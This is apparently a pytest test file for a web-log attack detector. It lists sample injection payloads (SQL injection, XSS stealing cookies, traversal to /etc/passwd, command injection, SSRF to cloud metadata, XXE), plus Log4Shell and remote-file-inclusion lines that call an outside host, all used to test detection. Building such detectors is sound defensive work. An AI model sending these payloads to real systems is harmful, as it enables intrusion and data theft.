from __future__ import annotations

import pickle
import time

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from examples import examples
from logvision.detect import Detector, detect
from logvision.detect.cascade import Verification, judge
from logvision.detect.explain import explain
from logvision.detect.quiet import Quiet
from logvision.detect.scopes import Rows
from logvision.detect.units import Kind, Owners
from logvision.detect.verify import verify
from logvision.schema import EVENT, TEXT

ATTACKS = {
    "sqli": [
        "/item?id=-1%20OR%202%2B512-512-1=0%2B0%2B0%2B1",
        "/item?id=1%27%20and%20%271%27=%271",
        "/item?id=1;waitfor%20delay%20%270:0:5%27--",
        "/item?id=if(now()=sysdate(),sleep(15),0)",
        "/item/5%27%20union%20select%201,2,3--%20-",
        "/item?id=1%2527%2520or%25201%253D1--",
        "/item?id=1/*!50000union*/all/**/select/**/1,2",
        "/item?id=1%20order%20by%2010--",
        "/item?id=(select(0)from(select(sleep(6)))v)",
    ],
    "xss": [
        "/s?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/s?q=%22%20onmouseover=alert(1)%20x=%22",
        "/s?q=%3Csvg/onload=alert%601%60%3E",
        "/s?u=javascript:alert(document.cookie)",
        "/s?q=%27-alert(1)-%27",
        "/s?q=%26lt;img%20src=x%20onerror=alert(1)%26gt;",
    ],
    "traversal": [
        "/f?n=../../../../etc/passwd",
        "/f?n=..%252f..%252f..%252fetc/hosts",
        "/cgi-bin/.%2e/.%2e/.%2e/bin/id",
        "/f?n=....//....//....//etc/passwd",
        "/f?n=php://filter/convert.base64-encode/resource=index.php",
        "/f?n=C:%5Cboot.ini",
    ],
    "rce": [
        "/p?h=127.0.0.1;cat%20/etc/passwd",
        "/p?h=$(nslookup%20x.example.org)",
        "/p?h=%7Cwhoami",
        "/p?h=a%0Auname%20-a",
        "/p?h=%60expr%201%20%2B%202%60",
        "/p?h=c%27a%27t%20/e%27t%27c/pa%27s%27swd",
        "/p?h=cat$%7BIFS%7D/etc/passwd",
        "/p?h=cmd.exe%20/c%20dir",
    ],
    "ssrf": [
        "/p?u=http://169.254.169.254/latest/meta-data/",
        "/p?u=http://2852039166/latest/",
        "/p?u=http://0x7f.1/",
        "/p?u=http://[::ffff:127.0.0.1]/",
        "/p?u=gopher://10.0.0.1:6379/_x",
    ],
    "ssti": ["/p?n=%7B%7B7*7%7D%7D", "/p?n=%7B%7B%27%27.__class__.__mro__%7D%7D"],
    "log4shell": ["/?x=$%7B$%7B::-j%7D$%7B::-n%7Ddi:ldap://203.0.113.9/a%7D"],
    "rfi": ["/p?page=http://203.0.113.9/shell.txt?"],
    "nosqli": ["/login?user[$ne]=1", "/p?q=%7B%22$gt%22:%22%22%7D"],
    "ldap": ["/p?u=*)(uid=*))(|(uid=*"],
    "xxe": ["/p?d=%3C!DOCTYPE%20a%20[%3C!ENTITY%20b%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E"],
    "ssi": ["/p?d=%3C!--%23exec%20cmd=%22id%22--%3E"],
    "crlf": ["/p?u=x%0d%0aSet-Cookie:%20a=b"],
    "prototype": ["/p?__proto__[x]=1"],
    "deserialisation": ["/p?d=O:4:%22Evil%22:1:%7B%7D"],
    "sensitive": ["/.env", "/app/.git/config"],
}


def judged(detector: Detector, targets: list[str], agents: list[str] | None = None) -> pa.Table:
    nothing = [None] * len(targets)
    return detector.judge(targets, agents or nothing, nothing, ["GET"] * len(targets))


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_of_every_class_are_seen(detector: Detector, attack: str) -> None:
    targets = ATTACKS[attack]
    assert dict(
        zip(targets, judged(detector, targets).column("attack").to_pylist(), strict=True)
    ) == dict.fromkeys(targets, attack)


def test_an_attack_in_the_agent_the_referer_or_a_nested_url_is_seen(detector: Detector) -> None:
    table = detector.judge(
        [
            "/",
            "/",
            "/go?u=https%3A%2F%2Fa.example%2F%3Fq%3D%253Cscript%253Ealert(1)%253C%252Fscript%253E",
            "/?d=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        ],
        ["() { :;}; /bin/id", "x", "x", "x"],
        [None, "https://a.example/?q=1'+union+select+1,2--", None, None],
        ["GET"] * 4,
    )  # fmt: skip
    assert table.column("attack").to_pylist() == ["rce", "sqli", "xss", "xss"]


def test_a_status_never_makes_an_attack(detector: Detector) -> None:
    results = [
        explain({"target": "/nothing-here", "status": status}, detector) for status in (200, 403, 404, 500)
    ]
    assert [(r.score, r.attack, r.outcome) for r in results] == [(0.0, None, None)] * 4


def test_the_explanation_points_at_the_bytes_as_logged(detector: Detector) -> None:
    target = "/i?a=1&id=-1%2527%2520UNION%2520SELECT%25201--"
    result = explain({"target": target, "status": 404}, detector)
    unit = result.units[0]
    match = next(m for m in unit.rules if m.rule == "sqli-union-select")
    assert (result.attack, result.outcome, unit.kind, unit.text) == (
        "sqli",
        "missed",
        "value",
        "-1' UNION SELECT 1--",
    )
    assert [step for step, _ in unit.decoding] == ["percent", "percent"]
    assert [target[a:b] for a, b in match.raw_spans] == ["UNION%2520SELECT%25201"]


def test_why_not_names_what_came_nearest(detector: Detector) -> None:
    result = explain({"target": "/../about.php"}, detector)
    assert result.attack is None
    assert result.verdict == (
        "Ordinary: 0.30 is below 0.50. What came nearest is the path '/../about.php': "
        "Read as a path: it climbs 1 steps above the site's root."
    )


def test_the_detector_travels(detector: Detector) -> None:
    copy: Detector = pickle.loads(pickle.dumps(detector))  # noqa: S301
    targets = [target for each in ATTACKS.values() for target in each]
    assert judged(copy, targets) == judged(detector, targets)
    assert copy.version == detector.version


def test_what_credit_leaves_over_is_counted_and_still_judged_by_rules(detector: Detector) -> None:
    targets = [f"/i?id={i}'%20union%20select%20{i},2--" for i in range(600)]
    verification = Verification(credit=281)  # and 19 for these rows
    owners = Owners(pa.array(targets), pa.array([], pa.string()), pa.array([], pa.string()))
    none = np.full(600, -1)
    same = np.zeros(600, np.int64)
    columns = {"cs-method": (["GET"], same), "sc-status": ([200], same)}
    rows = Rows((np.arange(600), none, none), columns)
    judged_as = judge(detector.signatures, None, verification, owners, rows, quiet=Quiet(0))
    assert (verification.read, verification.left_over) == (300, 300)
    assert [judged_as.verdicts[i].attack for i in judged_as.of_row] == ["sqli"] * 600


@given(st.binary(max_size=400), st.sampled_from([Kind.PATH, Kind.VALUE, Kind.URL, Kind.AGENT]))
@examples(200)
def test_no_bytes_break_a_reading(text: bytes, kind: Kind) -> None:
    assert all(0.0 <= piece.strength < 1.0 for piece in verify(text, kind))


@pytest.mark.slow
def test_payloads_built_to_exhaust_are_bounded(detector: Detector) -> None:
    bombs = [
        "/?a=" + "%25" * 200_000 + "27",
        "/?a=" + "(" * 300_000,
        "/?a=" + "${" * 200_000,
        "/?a=" + "'" * 300_000,
        "/?a=" + "../" * 200_000,
        "/?a=" + "<a " * 200_000,
        "/?a=" + '{"a":' * 100_000,
        "/?a=" + "/*" * 200_000,
        "/?a=" + "&#" * 200_000,
        "/?" + "a=1&" * 100_000,
        "/?a=" + "union select " * 30_000,
    ]
    for bomb in bombs:
        start = time.monotonic()
        judged(detector, [bomb])
        assert time.monotonic() - start < 3.0, bomb[:20]


def test_events_become_judged_events(detector: Detector) -> None:
    rows = [
        {"target": "/ok", "status": 200},
        {"target": "/.env", "status": 404},
        {"target": "/.env", "status": 403},
        {"target": "/.env", "status": 200},
        {"target": None, "status": None},
    ]
    parsed = pa.schema([each for each in EVENT if each.name not in ("score", "attack", "rules", "outcome")])
    filled = [
        {"time": 0, "source": "s", "position": i, "path": row["target"], "method": "GET", **row}
        for i, row in enumerate(rows)
    ]
    plain = pa.schema([pa.field(f.name, pa.string() if f.type == TEXT else f.type) for f in parsed])
    events = pa.Table.from_pylist(filled, plain).cast(parsed)
    table = detect(events, detector)
    assert table.schema == EVENT
    assert table.column("attack").to_pylist() == [None, "sensitive", "sensitive", "sensitive", None]
    assert table.column("outcome").to_pylist() == [None, "missed", "blocked", "unknown", None]
    assert detect(events.slice(0, 0), detector).num_rows == 0
